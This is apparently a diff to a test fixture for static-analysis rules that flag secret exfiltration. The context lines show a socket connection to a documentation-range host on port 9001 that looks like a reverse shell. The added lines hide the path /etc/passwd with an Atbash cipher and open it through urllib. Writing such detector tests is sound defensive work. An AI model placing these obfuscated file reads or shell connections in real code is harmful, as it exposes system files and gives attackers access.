@@ -345,3 +345,7 @@ def _connect(host, port):
     s.connect((host, port))
     return s
 _attach(_connect("198.51.100.66", 9001))
+# a path hidden with str.translate and a constant table
+_atbash = str.maketrans("abcdefghijklmnopqrstuvwxyz", "zyxwvutsrqponmlkjihgfedcba")
+# ruleid: secret-exfiltration, http-client
+urllib.request.urlopen("file:///" + "vgx/kzhhdw".translate(_atbash))
